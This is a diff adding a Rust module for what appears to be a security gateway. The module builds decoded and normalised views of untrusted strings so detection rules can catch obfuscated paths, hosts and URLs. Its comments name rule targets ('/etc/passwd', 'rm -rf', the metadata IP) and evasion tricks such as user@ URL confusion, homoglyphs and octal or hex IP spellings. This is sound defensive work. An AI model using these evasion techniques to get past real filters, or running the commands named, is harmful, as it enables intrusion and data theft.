@@ -1,0 +1,1663 @@
+//! L0 of the inspector: derived *views* of untrusted strings, for matching only.
+//!
+//! Rules are written against plain text (`/etc/passwd`, `rm -rf`, `169.254.169.254`),
+//! while an attacker can send the same thing percent-encoded several times, with
+//! zero-width characters inside, in fullwidth or Cyrillic look-alike letters,
+//! base64-wrapped, as `0x7f.1`, or behind a `user@` trick in a URL. L0 undoes
+//! those encodings so that a rule sees what the upstream server will eventually act on.
+//!
+//! Views are never forwarded. The gateway forwards the original bytes untouched:
+//! a view is a guess at one interpretation, and rewriting a message into our
+//! guess would change what the upstream receives (and could itself be used to
+//! smuggle content past the server's own parser). Every function here builds new
+//! strings and leaves its input alone.
+//!
+//! The input is hostile, so work is linear in its length and every output is
+//! capped by [`Limits`] or a `MAX_*` constant; no loop runs on attacker-chosen
+//! repetition without a bound. The common case (short plain ASCII) allocates
+//! nothing besides the result vector. Only [`resolve_existing`] touches the
+//! file system.
+
+use std::borrow::Cow;
+use std::ffi::{OsStr, OsString};
+use std::net::{IpAddr, Ipv4Addr, Ipv6Addr};
+use std::os::unix::ffi::{OsStrExt, OsStringExt};
+use std::path::{Path, PathBuf};
+
+use base64::alphabet;
+use base64::engine::{DecodePaddingMode, GeneralPurpose, GeneralPurposeConfig};
+use base64::Engine as _;
+use unicode_normalization::{is_nfkc_quick, IsNormalized, UnicodeNormalization};
+
+/// Most views [`text_views`] returns, the original included.
+pub const MAX_VIEWS: usize = 16;
+
+/// Most URLs [`extract_urls`] reports for one string.
+pub const MAX_URLS: usize = 16;
+
+/// Most path components [`resolve_existing`] works on before giving up on I/O
+/// (`PATH_MAX` is 4096 bytes, so a real path has fewer).
+pub const MAX_PATH_COMPONENTS: usize = 4096;
+
+/// Most symlinks [`resolve_existing`] follows by hand, as the kernel's `MAXSYMLINKS`.
+const MAX_SYMLINK_HOPS: usize = 40;
+
+/// Rounds of percent-decoding [`canonical_host`] applies.
+const HOST_PERCENT_ROUNDS: usize = 4;
+
+/// Bounds for view building.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub struct Limits {
+    /// Rounds of percent-decoding (`%252e` needs two).
+    pub max_percent_rounds: usize,
+    /// Base64 candidate tokens decoded per string; later tokens are not looked at.
+    pub max_base64_tokens: usize,
+    /// Shortest token considered base64; shorter runs are ordinary words.
+    pub min_base64_len: usize,
+    /// Bytes decoded per base64 token; a longer token is decoded on its prefix.
+    pub max_base64_decoded: usize,
+    /// Bytes of a string that derived views are built from. A longer string is
+    /// matched as the original plus views of its first `max_input` bytes (cut at
+    /// a char boundary).
+    pub max_input: usize,
+}
+
+impl Default for Limits {
+    fn default() -> Self {
+        Limits {
+            max_percent_rounds: 4,
+            max_base64_tokens: 8,
+            min_base64_len: 16,
+            max_base64_decoded: 4096,
+            max_input: 64 * 1024,
+        }
+    }
+}
+
+/// All views of a string for matching: the original first, then each distinct derived form.
+///
+/// Derived forms, in order: the repeatedly percent-decoded text; the
+/// [`clean_unicode`] form of each view so far; the [`base64_peek`] texts of each
+/// view so far, each followed by its [`clean_unicode`] form. Case is left alone
+/// because rule regexes are case-insensitive. Duplicates are removed, the original
+/// is always at index 0, and at most [`MAX_VIEWS`] views are returned.
+///
+/// For plain ASCII without `%xx` or long base64-like tokens the result is just
+/// the borrowed original.
+pub fn text_views<'a>(s: &'a str, limits: &Limits) -> Vec<Cow<'a, str>> {
+    let head = prefix_at_char_boundary(s, limits.max_input);
+    let mut views = ViewSet::new(s);
+
+    if let Some(decoded) = percent_decode_repeated(head, limits.max_percent_rounds) {
+        views.push(decoded);
+    }
+
+    // The original is viewed through `head` so derived work stays within max_input.
+    let base = views.len();
+    for i in 0..base {
+        let src = if i == 0 { head } else { views.get(i) };
+        if let Some(cleaned) = changed(clean_unicode(src)) {
+            views.push(cleaned);
+        }
+    }
+
+    let decoded_from = views.len();
+    for i in 0..decoded_from {
+        let src = if i == 0 { head } else { views.get(i) };
+        for text in base64_peek(src, limits) {
+            let cleaned = changed(clean_unicode(&text));
+            views.push(text);
+            if let Some(cleaned) = cleaned {
+                views.push(cleaned);
+            }
+        }
+    }
+
+    views.into_vec()
+}
+
+/// Views in insertion order, without duplicates, capped at [`MAX_VIEWS`].
+struct ViewSet<'a> {
+    views: Vec<Cow<'a, str>>,
+}
+
+impl<'a> ViewSet<'a> {
+    fn new(original: &'a str) -> Self {
+        ViewSet {
+            views: vec![Cow::Borrowed(original)],
+        }
+    }
+
+    fn len(&self) -> usize {
+        self.views.len()
+    }
+
+    fn get(&self, i: usize) -> &str {
+        &self.views[i]
+    }
+
+    fn push(&mut self, view: String) {
+        if self.views.len() < MAX_VIEWS && !self.views.iter().any(|v| **v == *view) {
+            self.views.push(Cow::Owned(view));
+        }
+    }
+
+    fn into_vec(self) -> Vec<Cow<'a, str>> {
+        self.views
+    }
+}
+
+/// The owned string when a `Cow` holds a changed form.
+fn changed(view: Cow<'_, str>) -> Option<String> {
+    match view {
+        Cow::Owned(s) => Some(s),
+        Cow::Borrowed(_) => None,
+    }
+}
+
+/// The longest prefix of `s` at most `max` bytes long that ends on a char boundary.
+fn prefix_at_char_boundary(s: &str, max: usize) -> &str {
+    if s.len() <= max {
+        return s;
+    }
+    let mut end = max;
+    while !s.is_char_boundary(end) {
+        end -= 1;
+    }
+    &s[..end]
+}
+
+// ---------------------------------------------------------------------------
+// Percent-encoding
+
+/// Repeatedly percent-decode, up to `max_rounds` rounds, stopping when stable.
+///
+/// `+` is not treated as a space (that is form encoding, not URL encoding).
+/// Rounds work on bytes, so a sequence split across rounds (`%25C3%25A9`)
+/// still decodes to `é`; invalid UTF-8 in the final bytes becomes U+FFFD.
+/// Returns `None` when no `%xx` sequence was decoded.
+pub fn percent_decode_repeated(s: &str, max_rounds: usize) -> Option<String> {
+    if max_rounds == 0 || !has_percent_escape(s.as_bytes()) {
+        return None;
+    }
+    let mut bytes = percent_decode_once(s.as_bytes());
+    // Each round shrinks the text by two bytes per escape, so it stabilises
+    // on its own; max_rounds bounds the work on long inputs.
+    for _ in 1..max_rounds {
+        if !has_percent_escape(&bytes) {
+            break;
+        }
+        bytes = percent_decode_once(&bytes);
+    }
+    Some(match String::from_utf8(bytes) {
+        Ok(text) => text,
+        Err(err) => String::from_utf8_lossy(err.as_bytes()).into_owned(),
+    })
+}
+
+fn has_percent_escape(bytes: &[u8]) -> bool {
+    bytes
+        .windows(3)
+        .any(|w| w[0] == b'%' && w[1].is_ascii_hexdigit() && w[2].is_ascii_hexdigit())
+}
+
+fn percent_decode_once(bytes: &[u8]) -> Vec<u8> {
+    let mut out = Vec::with_capacity(bytes.len());
+    let mut i = 0;
+    while i < bytes.len() {
+        if bytes[i] == b'%' && i + 2 < bytes.len() {
+            if let (Some(hi), Some(lo)) = (hex_value(bytes[i + 1]), hex_value(bytes[i + 2])) {
+                out.push(hi << 4 | lo);
+                i += 3;
+                continue;
+            }
+        }
+        out.push(bytes[i]);
+        i += 1;
+    }
+    out
+}
+
+fn hex_value(b: u8) -> Option<u8> {
+    match b {
+        b'0'..=b'9' => Some(b - b'0'),
+        b'a'..=b'f' => Some(b - b'a' + 10),
+        b'A'..=b'F' => Some(b - b'A' + 10),
+        _ => None,
+    }
+}
+
+// ---------------------------------------------------------------------------
+// Unicode
+
+/// Remove invisible and format characters, apply NFKC, then fold common confusables.
+///
+/// Removed: every character of general category Cf (soft hyphen, bidi controls,
+/// zero-width space/joiners, word joiner, BOM, interlinear annotation, tag
+/// characters, …), variation selectors, and a few non-Cf characters that render
+/// as nothing (combining grapheme joiner, Hangul fillers, Mongolian free variation
+/// selectors). NFKC turns fullwidth and mathematical letters into ASCII. The
+/// fold then maps Cyrillic, Greek, Armenian and Latin-extension letters that look
+/// like Latin ones (`а`→`a`, `ο`→`o`, `ɡ`→`g`, …) in both cases.
+///
+/// Returns `Cow::Borrowed` when nothing changed; ASCII input never allocates.
+pub fn clean_unicode(s: &str) -> Cow<'_, str> {
+    if s.is_ascii() {
+        return Cow::Borrowed(s);
+    }
+    let needs_work = s
+        .chars()
+        .any(|c| is_invisible(c) || fold_confusable(c).is_some())
+        || is_nfkc_quick(s.chars()) != IsNormalized::Yes;
+    if !needs_work {
+        return Cow::Borrowed(s);
+    }
+    // Invisibles are removed before NFKC (so they cannot block composition)
+    // and again after it (in case a compatibility mapping produced one).
+    let cleaned: String = s
+        .chars()
+        .filter(|c| !is_invisible(*c))
+        .nfkc()
+        .filter(|c| !is_invisible(*c))
+        .map(|c| fold_confusable(c).unwrap_or(c))
+        .collect();
+    if cleaned == s {
+        Cow::Borrowed(s)
+    } else {
+        Cow::Owned(cleaned)
+    }
+}
+
+/// True if the string contains at least one character [`clean_unicode`] removes.
+pub fn has_invisible(s: &str) -> bool {
+    !s.is_ascii() && s.chars().any(is_invisible)
+}
+
+/// Characters that render as nothing and are removed from views.
+fn is_invisible(c: char) -> bool {
+    matches!(
+        c,
+        // General category Cf.
+        '\u{00AD}'
+            | '\u{0600}'..='\u{0605}'
+            | '\u{061C}'
+            | '\u{06DD}'
+            | '\u{070F}'
+            | '\u{08E2}'
+            | '\u{180E}'
+            | '\u{200B}'..='\u{200F}'
+            | '\u{202A}'..='\u{202E}'
+            | '\u{2060}'..='\u{206F}'
+            | '\u{FEFF}'
+            | '\u{FFF9}'..='\u{FFFB}'
+            | '\u{110BD}'
+            | '\u{110CD}'
+            | '\u{13430}'..='\u{1343F}'
+            | '\u{1BCA0}'..='\u{1BCA3}'
+            | '\u{1D173}'..='\u{1D17A}'
+            | '\u{E0000}'..='\u{E007F}'
+            // Variation selectors (Mn), including the supplement.
+            | '\u{FE00}'..='\u{FE0F}'
+            | '\u{E0100}'..='\u{E01EF}'
+            // Not Cf, but invisible by design: combining grapheme joiner,
+            // Mongolian free variation selectors, Khmer inherent vowels, Hangul fillers.
+            | '\u{034F}'
+            | '\u{180B}'..='\u{180D}'
+            | '\u{180F}'
+            | '\u{17B4}'..='\u{17B5}'
+            | '\u{115F}'..='\u{1160}'
+            | '\u{3164}'
+            | '\u{FFA0}'
+    )
+}
+
+/// Latin look-alike of a non-Latin (or exotic Latin) letter. Fullwidth and
+/// mathematical letters are not listed: NFKC already maps them.
+fn fold_confusable(c: char) -> Option<char> {
+    let latin = match c {
+        // Cyrillic, lower case.
+        'а' => 'a',
+        'е' => 'e',
+        'о' => 'o',
+        'р' => 'p',
+        'с' => 'c',
+        'у' => 'y',
+        'х' => 'x',
+        'і' => 'i',
+        'ј' => 'j',
+        'ѕ' => 's',
+        'ԁ' => 'd',
+        'ԛ' => 'q',
+        'ԝ' => 'w',
+        'һ' => 'h',
+        'ӏ' => 'l',
+        'ү' => 'y',
+        'ѵ' => 'v',
+        // Cyrillic, upper case.
+        'А' => 'A',
+        'В' => 'B',
+        'Е' => 'E',
+        'К' => 'K',
+        'М' => 'M',
+        'Н' => 'H',
+        'О' => 'O',
+        'Р' => 'P',
+        'С' => 'C',
+        'Т' => 'T',
+        'Х' => 'X',
+        'У' => 'Y',
+        'Ү' => 'Y',
+        'І' => 'I',
+        'Ӏ' => 'I',
+        'Ј' => 'J',
+        'Ѕ' => 'S',
+        'Ԛ' => 'Q',
+        'Ԝ' => 'W',
+        'Ѵ' => 'V',
+        // Greek, lower case.
+        'α' => 'a',
+        'γ' => 'y',
+        'ι' => 'i',
+        'κ' => 'k',
+        'ν' => 'v',
+        'ο' => 'o',
+        'ρ' => 'p',
+        'τ' => 't',
+        'υ' => 'u',
+        'χ' => 'x',
+        'ϲ' => 'c',
+        'ϳ' => 'j',
+        // Greek, upper case.
+        'Α' => 'A',
+        'Β' => 'B',
+        'Ε' => 'E',
+        'Ζ' => 'Z',
+        'Η' => 'H',
+        'Ι' => 'I',
+        'Κ' => 'K',
+        'Μ' => 'M',
+        'Ν' => 'N',
+        'Ο' => 'O',
+        'Ρ' => 'P',
+        'Τ' => 'T',
+        'Υ' => 'Y',
+        'Χ' => 'X',
+        'Ϲ' => 'C',
+        // Armenian.
+        'օ' => 'o',
+        'ս' => 'u',
+        'հ' => 'h',
+        // Latin letters outside ASCII that NFKC leaves alone.
+        'ɡ' => 'g',
+        'ɑ' => 'a',
+        'ı' => 'i',
+        'ȷ' => 'j',
+        _ => return None,
+    };
+    Some(latin)
+}
+
+/// Script buckets, as far as homoglyph detection needs them.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+enum Script {
+    Latin,
+    /// A script with letters that look Latin, or any other alphabet.
+    NonLatin,
+    /// Letters that routinely sit next to Latin without a space (CJK, Thai, …)
+    /// and have no Latin look-alikes; they never make a word mixed.
+    Neutral,
+}
+
+fn script_of(c: char) -> Script {
+    match c {
+        'A'..='Z' | 'a'..='z' => Script::Latin,
+        '\u{00AA}' | '\u{00B5}' | '\u{00BA}' => Script::Neutral,
+        '\u{00D7}' | '\u{00F7}' => Script::Neutral,
+        '\u{00C0}'..='\u{024F}'
+        | '\u{0250}'..='\u{02AF}'
+        | '\u{1D00}'..='\u{1D7F}'
+        | '\u{1E00}'..='\u{1EFF}'
+        | '\u{2C60}'..='\u{2C7F}'
+        | '\u{A720}'..='\u{A7FF}'
+        | '\u{AB30}'..='\u{AB6F}'
+        | '\u{FF21}'..='\u{FF3A}'
+        | '\u{FF41}'..='\u{FF5A}' => Script::Latin,
+        // Thai, Lao, Myanmar, Khmer, CJK, kana, Hangul, halfwidth forms, CJK extensions.
+        '\u{0E00}'..='\u{0EFF}'
+        | '\u{1000}'..='\u{109F}'
+        | '\u{1780}'..='\u{17FF}'
+        | '\u{2E80}'..='\u{9FFF}'
+        | '\u{AC00}'..='\u{D7AF}'
+        | '\u{F900}'..='\u{FAFF}'
+        | '\u{FF66}'..='\u{FFDC}'
+        | '\u{20000}'..='\u{3FFFF}' => Script::Neutral,
+        _ => Script::NonLatin,
+    }
+}
+
+/// Combining marks continue a word without adding a script (approximation of
+/// general category M for the blocks that matter here).
+fn is_combining_mark(c: char) -> bool {
+    matches!(
+        c,
+        '\u{0300}'..='\u{036F}'
+            | '\u{0483}'..='\u{0489}'
+            | '\u{0591}'..='\u{05BD}'
+            | '\u{0610}'..='\u{061A}'
+            | '\u{064B}'..='\u{065F}'
+            | '\u{1AB0}'..='\u{1AFF}'
+            | '\u{1DC0}'..='\u{1DFF}'
+            | '\u{20D0}'..='\u{20FF}'
+            | '\u{FE20}'..='\u{FE2F}'
+    )
+}
+
+/// True if any single word mixes Latin letters with letters of another script,
+/// the homoglyph trick of `pаypal` with a Cyrillic `а`.
+///
+/// A word is a run of letters; combining marks and invisible characters do not
+/// end it (so `p\u{200B}аypal` is still one word). Pure Cyrillic or Greek text
+/// is not mixed, and neither is Latin next to CJK, Thai, Lao, Khmer or Myanmar,
+/// which are written without spaces and have no Latin look-alikes.
+pub fn is_mixed_script(s: &str) -> bool {
+    if s.is_ascii() {
+        return false;
+    }
+    let (mut latin, mut other) = (false, false);
+    for c in s.chars() {
+        if is_combining_mark(c) || is_invisible(c) {
+            continue;
+        }
+        if !c.is_alphabetic() {
+            latin = false;
+            other = false;
+            continue;
+        }
+        match script_of(c) {
+            Script::Latin => latin = true,
+            Script::NonLatin => other = true,
+            Script::Neutral => {}
+        }
+        if latin && other {
+            return true;
+        }
+    }
+    false
+}
+
+// ---------------------------------------------------------------------------
+// Paths
+
+/// Lexical path canonicalisation, without I/O.
+///
+/// 1. `file:` URLs (`file:///p`, `file://host/p`, `file:/p`, any case) become
+///    their path: the authority is dropped (a server that opens the URL reads
+///    the local path whatever the host says), query and fragment are cut, and
+///    the path is percent-decoded once, as a URL consumer does. Plain paths are
+///    not percent-decoded: `%70` is a legal file name.
+/// 2. A leading `~` or `~/` expands to `home`. `~user/…` returns `None`: that
+///    user's home is unknown here, and guessing would misjudge the zone.
+/// 3. A relative path is joined onto `cwd`.
+/// 4. Empty and `.` components are dropped; `..` removes the previous component
+///    and never climbs above `/`.
+///
+/// Backslashes are ordinary file-name bytes on Linux and are kept. A `cwd` or
+/// `home` that is itself relative is taken as rooted at `/`, so the result is
+/// always absolute. Returns `None` for empty input or input containing NUL
+/// (also after decoding), which no system call accepts.
+pub fn lexical_path(raw: &str, cwd: &Path, home: &Path) -> Option<PathBuf> {
+    if raw.is_empty() || raw.contains('\0') {
+        return None;
+    }
+    let decoded;
+    let path: &[u8] = match file_url_path(raw) {
+        Some(url_path) => {
+            decoded = percent_decode_once(url_path.as_bytes());
+            if decoded.contains(&0) {
+                return None;
+            }
+            &decoded
+        }
+        None => raw.as_bytes(),
+    };
+
+    let mut parts: Vec<&[u8]> = Vec::new();
+    let rest = if let Some(after_tilde) = path.strip_prefix(b"~") {
+        if !after_tilde.is_empty() && after_tilde[0] != b'/' {
+            return None;
+        }
+        push_lexically(&mut parts, home.as_os_str().as_bytes());
+        after_tilde
+    } else {
+        if path.first() != Some(&b'/') {
+            push_lexically(&mut parts, cwd.as_os_str().as_bytes());
+        }
+        path
+    };
+    push_lexically(&mut parts, rest);
+    Some(path_from_parts(&parts))
+}
+
+/// The path of a `file:` URL, or `None` when `raw` is not one.
+fn file_url_path(raw: &str) -> Option<&str> {
+    let scheme = raw.get(..5)?;
+    if !scheme.eq_ignore_ascii_case("file:") {
+        return None;
+    }
+    let after = &raw[5..];
+    let path = if let Some(authority_and_path) = after.strip_prefix("//") {
+        match authority_and_path.find('/') {
+            Some(slash) => &authority_and_path[slash..],
+            None => "/",
+        }
+    } else if after.starts_with('/') {
+        after
+    } else {
+        return None;
+    };
+    let end = path.find(['?', '#']).unwrap_or(path.len());
+    Some(&path[..end])
+}
+
+/// Append the components of `bytes` to `parts`, resolving `.` and `..` lexically.
+fn push_lexically<'p>(parts: &mut Vec<&'p [u8]>, bytes: &'p [u8]) {
+    for part in bytes.split(|b| *b == b'/') {
+        match part {
+            b"" | b"." => {}
+            b".." => {
+                parts.pop();
+            }
+            _ => parts.push(part),
+        }
+    }
+}
+
+fn path_from_parts(parts: &[&[u8]]) -> PathBuf {
+    let mut out = Vec::with_capacity(parts.iter().map(|p| p.len() + 1).sum::<usize>() + 1);
+    for part in parts {
+        out.push(b'/');
+        out.extend_from_slice(part);
+    }
+    if out.is_empty() {
+        out.push(b'/');
+    }
+    PathBuf::from(OsString::from_vec(out))
+}
+
+/// Resolve the symlinks that exist along an absolute path.
+///
+/// The longest prefix that resolves is canonicalised with
+/// [`std::fs::canonicalize`] (found by binary search: if a prefix resolves, so
+/// does every shorter one), and the rest is appended lexically, `..` included.
+/// When the first missing component is a dangling symlink it is followed by
+/// hand (at most 40 hops, like the kernel), because creating a file through it
+/// writes at the link's target, not beside the link.
+///
+/// This is the only function in L0 that does I/O. It has to: a zone check on
+/// `/workspace/link/secret` is meaningless if `link` points at `/etc`, so paths
+/// are judged after symlinks. The answer can go stale between this check and
+/// the upstream's `open` (a link swapped in between); that race is not ours to
+/// win in user space and is covered by the kernel sandbox, which enforces the
+/// same zones at `open` time.
+///
+/// A relative `path` is taken as rooted at `/` (call [`lexical_path`] first).
+/// With more than [`MAX_PATH_COMPONENTS`] components, no I/O is done and the
+/// lexically cleaned path is returned. Components that cannot be examined
+/// (permission denied, loops) are kept as written.
+pub fn resolve_existing(path: &Path) -> PathBuf {
+    let mut parts: Vec<OsString> = path
+        .as_os_str()
+        .as_bytes()
+        .split(|b| *b == b'/')
+        .filter(|p| !p.is_empty() && *p != b".")
+        .map(|p| OsStr::from_bytes(p).to_os_string())
+        .collect();
+
+    for _ in 0..=MAX_SYMLINK_HOPS {
+        if parts.len() > MAX_PATH_COMPONENTS {
+            break;
+        }
+        let (resolved, base) = longest_resolving_prefix(&parts);
+        let rest = &parts[resolved..];
+        if let Some(first) = rest.first().filter(|p| p.as_bytes() != b"..") {
+            if let Ok(target) = std::fs::read_link(base.join(first)) {
+                let mut next = Vec::new();
+                if !target.is_absolute() {
+                    next.extend(base.iter().skip(1).map(OsStr::to_os_string));
+                }
+                next.extend(
+                    target
+                        .as_os_str()
+                        .as_bytes()
+                        .split(|b| *b == b'/')
+                        .filter(|p| !p.is_empty() && *p != b".")
+                        .map(|p| OsStr::from_bytes(p).to_os_string()),
+                );
+                next.extend(rest[1..].iter().cloned());
+                parts = next;
+                continue;
+            }
+        }
+        return join_lexically(base, rest);
+    }
+    join_lexically(PathBuf::from("/"), &parts)
+}
+
+/// The number of leading `parts` that resolve, and their canonical path.
+fn longest_resolving_prefix(parts: &[OsString]) -> (usize, PathBuf) {
+    let prefix = |n: usize| -> PathBuf {
+        let mut p = PathBuf::from("/");
+        p.extend(&parts[..n]);
+        p
+    };
+    let root = PathBuf::from("/");
+    if let Ok(full) = std::fs::canonicalize(prefix(parts.len())) {
+        return (parts.len(), full);
+    }
+    // Invariant: `lo` resolves to `lo_path`, `hi` does not.
+    let (mut lo, mut hi) = (0, parts.len());
+    let mut lo_path = std::fs::canonicalize(&root).unwrap_or(root);
+    while hi - lo > 1 {
+        let mid = lo + (hi - lo) / 2;
+        match std::fs::canonicalize(prefix(mid)) {
+            Ok(p) => {
+                lo = mid;
+                lo_path = p;
+            }
+            Err(_) => hi = mid,
+        }
+    }
+    (lo, lo_path)
+}
+
+fn join_lexically(mut base: PathBuf, rest: &[OsString]) -> PathBuf {
+    for part in rest {
+        if part.as_bytes() == b".." {
+            base.pop();
+        } else {
+            base.push(part);
+        }
+    }
+    base
+}
+
+// ---------------------------------------------------------------------------
+// Hosts
+
+/// A host as the network stack would see it.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub enum HostView {
+    /// An address literal in any accepted spelling. IPv4-mapped and
+    /// IPv4-compatible IPv6 addresses are reported as their IPv4 address.
+    Ip(IpAddr),
+    /// A DNS name: lowercased, trailing dots removed (no IDNA processing).
+    Name(String),
+}
+
+/// Canonicalise a host string.
+///
+/// Surrounding whitespace and IPv6 brackets are removed, and so is an IPv6
+/// zone id (`%eth0` or `%25eth0`). The text is percent-decoded (repeatedly,
+/// bounded). IPv6 literals are parsed, with `::ffff:a.b.c.d`, `::ffff:7f00:1`
+/// and the deprecated IPv4-compatible `::a.b.c.d` reported as IPv4 (`::` and
+/// `::1` stay IPv6). IPv4 is parsed in every form `inet_aton` accepts (see
+/// [`parse_ipv4_loose`]), also with trailing dots, which some resolvers strip.
+/// Anything else is a [`HostView::Name`].
+pub fn canonical_host(host: &str) -> HostView {
+    if let Some(ip) = ipv6_literal(host) {
+        return HostView::Ip(ip);
+    }
+    let decoded = percent_decode_repeated(host, HOST_PERCENT_ROUNDS);
+    let text = decoded.as_deref().unwrap_or(host);
+    if let Some(ip) = ipv6_literal(text) {
+        return HostView::Ip(ip);
+    }
+    let text = strip_brackets(text.trim()).trim_end_matches('.');
+    if let Some(v4) = parse_ipv4_loose(text) {
+        return HostView::Ip(IpAddr::V4(v4));
+    }
+    HostView::Name(text.to_lowercase())
+}
+
+fn strip_brackets(s: &str) -> &str {
+    s.strip_prefix('[')
+        .and_then(|inner| inner.strip_suffix(']'))
+        .unwrap_or(s)
+}
+
+/// An IPv6 literal (brackets and zone id allowed), mapped to IPv4 where it embeds one.
+fn ipv6_literal(s: &str) -> Option<IpAddr> {
+    let inner = strip_brackets(s.trim());
+    if !inner.contains(':') {
+        return None;
+    }
+    let without_zone = inner.split('%').next().unwrap_or(inner);
+    let v6: Ipv6Addr = without_zone.parse().ok()?;
+    Some(ipv6_view(v6))
+}
+
+fn ipv6_view(v6: Ipv6Addr) -> IpAddr {
+    if let Some(v4) = v6.to_ipv4_mapped() {
+        return IpAddr::V4(v4);
+    }
+    let seg = v6.segments();
+    let compatible = seg[..6].iter().all(|s| *s == 0) && !(seg[6] == 0 && seg[7] <= 1);
+    if compatible {
+        let [a, b] = seg[6].to_be_bytes();
+        let [c, d] = seg[7].to_be_bytes();
+        return IpAddr::V4(Ipv4Addr::new(a, b, c, d));
+    }
+    IpAddr::V6(v6)
+}
+
+/// Parse IPv4 the way glibc's `inet_aton` does.
+///
+/// One to four parts separated by dots; each part is decimal, octal with a
+/// leading `0`, or hex with `0x`/`0X`. Every part but the last is one byte; the
+/// last fills the remaining bytes (`127.1` is `127.0.0.1`, `0x7f000001` is
+/// `127.0.0.1`, `169.254.43518` is `169.254.169.254`). A part that overflows its
+/// room, an `8` or `9` in octal, or an empty part is rejected. As in glibc, the
+/// address may be followed by ASCII whitespace and then anything, or by NUL:
+/// `getaddrinfo("127.1 x")` connects to 127.0.0.1.
+pub fn parse_ipv4_loose(s: &str) -> Option<Ipv4Addr> {
+    const LAST_PART_MAX: [u64; 4] = [0xffff_ffff, 0xff_ffff, 0xffff, 0xff];
+    let bytes = s.as_bytes();
+    let mut pos = 0;
+    let mut leading = [0u8; 3];
+    let mut count = 0;
+    loop {
+        let (value, next) = parse_c_number(bytes, pos)?;
+        pos = next;
+        match bytes.get(pos) {
+            Some(b'.') => {
+                if count == leading.len() {
+                    return None;
+                }
+                leading[count] = u8::try_from(value).ok()?;
+                count += 1;
+                pos += 1;
+            }
+            other => {
+                let trailing_ok = match other {
+                    None | Some(0) => true,
+                    Some(b) => matches!(b, b' ' | b'\t' | b'\n' | 0x0b | 0x0c | b'\r'),
+                };
+                if !trailing_ok || value > LAST_PART_MAX[count] {
+                    return None;
+                }
+                let mut addr = u32::try_from(value).ok()?;
+                for (i, byte) in leading[..count].iter().enumerate() {
+                    addr |= u32::from(*byte) << (24 - 8 * i);
+                }
+                return Some(Ipv4Addr::from(addr));
+            }
+        }
+    }
+}
+
+/// A number as `strtoul(…, 0)` reads it, which must start with a digit.
+/// Returns the value and the index after it; values above `u32::MAX` are rejected.
+fn parse_c_number(bytes: &[u8], start: usize) -> Option<(u64, usize)> {
+    let first = *bytes.get(start)?;
+    if !first.is_ascii_digit() {
+        return None;
+    }
+    let (radix, mut pos) = if first != b'0' {
+        (10, start)
+    } else if matches!(bytes.get(start + 1), Some(b'x' | b'X'))
+        && bytes.get(start + 2).is_some_and(u8::is_ascii_hexdigit)
+    {
+        (16, start + 2)
+    } else {
+        (8, start)
+    };
+    let mut value: u64 = 0;
+    while let Some(digit) = bytes.get(pos).and_then(|b| char::from(*b).to_digit(radix)) {
+        value = value * u64::from(radix) + u64::from(digit);
+        if value > u64::from(u32::MAX) {
+            return None;
+        }
+        pos += 1;
+    }
+    Some((value, pos))
+}
+
+// ---------------------------------------------------------------------------
+// URLs
+
+/// URL pieces found in a string. All fields are raw text, not decoded.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct UrlParts {
+    /// Lowercased scheme.
+    pub scheme: String,
+    /// Everything before the last `@` of the authority.
+    pub userinfo: Option<String>,
+    /// Raw host text, IPv6 brackets kept; feed it to [`canonical_host`].
+    pub host: String,
+    /// The port, when present and valid.
+    pub port: Option<u16>,
+    /// From the first `/` or `?` after the authority up to any `#`.
+    pub path_and_query: String,
+}
+
+/// Find `scheme://…` URLs anywhere in the string, at most [`MAX_URLS`].
+///
+/// The authority's host is what follows its last `@` (so `http://good.com@evil.com`
+/// is a URL for `evil.com`). URLs nested in another URL's query are reported too.
+/// Parsers disagree on some inputs, and a check must hold for whichever one the
+/// upstream uses, so for `http`, `https`, `ws`, `wss` and `ftp` a second reading
+/// is added when it differs: WHATWG (browsers, Node, many HTTP clients) treats
+/// `\` like `/` and skips extra slashes, so `http://good.com\@evil.com` is
+/// reported with host `evil.com` (RFC 3986 reading) and `good.com` (WHATWG),
+/// and `http:///evil.com` with host `evil.com`. Bare `host:port` and `//host`
+/// forms are not URLs here.
+pub fn extract_urls(s: &str) -> Vec<UrlParts> {
+    let mut urls: Vec<UrlParts> = Vec::new();
+    let bytes = s.as_bytes();
+    let mut from = 0;
+    // End of the text run holding the current URL. Hits inside one run share
+    // it, so it is searched once per run rather than once per hit (keeps
+    // `a://x#a://x#…` linear).
+    let mut run_end = 0;
+    while urls.len() < MAX_URLS {
+        let Some(offset) = s[from..].find("://") else {
+            break;
+        };
+        let sep = from + offset;
+        from = sep + 3;
+        let Some(start) = scheme_start(bytes, sep) else {
+            continue;
+        };
+        let scheme = s[start..sep].to_ascii_lowercase();
+        let body_start = sep + 3;
+        if run_end < body_start {
+            run_end = s[body_start..]
+                .find(ends_url)
+                .map_or(s.len(), |i| body_start + i);
+        }
+        let body = &s[body_start..run_end];
+
+        let readings = [
+            Some(parse_rfc3986(&scheme, body)),
+            is_special_scheme(&scheme).then(|| parse_whatwg(&scheme, body)),
+        ];
+        for url in readings.into_iter().flatten() {
+            if urls.len() < MAX_URLS && !urls.contains(&url) {
+                urls.push(url);
+            }
+        }
+    }
+    urls
+}
+
+/// Start of the scheme ending at `sep` (`[a-z][a-z0-9+.-]*`, any case).
+fn scheme_start(bytes: &[u8], sep: usize) -> Option<usize> {
+    let mut start = sep;
+    while start > 0
+        && matches!(bytes[start - 1], b'a'..=b'z' | b'A'..=b'Z' | b'0'..=b'9' | b'+' | b'-' | b'.')
+    {
+        start -= 1;
+    }
+    // The scheme must begin with a letter; drop digits or symbols before it.
+    (start..sep).find(|i| bytes[*i].is_ascii_alphabetic())
+}
+
+/// Characters that cannot appear in a URL written in text, so they end one.
+fn ends_url(c: char) -> bool {
+    c.is_whitespace()
+        || c.is_control()
+        || matches!(c, '"' | '<' | '>' | '`' | '{' | '}' | '|' | '^')
+}
+
+fn is_special_scheme(scheme: &str) -> bool {
+    matches!(scheme, "http" | "https" | "ws" | "wss" | "ftp")
+}
+
+fn parse_rfc3986(scheme: &str, body: &str) -> UrlParts {
+    let authority_end = body.find(['/', '?', '#']).unwrap_or(body.len());
+    split_url(scheme, &body[..authority_end], &body[authority_end..])
+}
+
+fn parse_whatwg(scheme: &str, body: &str) -> UrlParts {
+    let body = body.trim_start_matches(['/', '\\']);
+    let authority_end = body.find(['/', '\\', '?', '#']).unwrap_or(body.len());
+    split_url(scheme, &body[..authority_end], &body[authority_end..])
+}
+
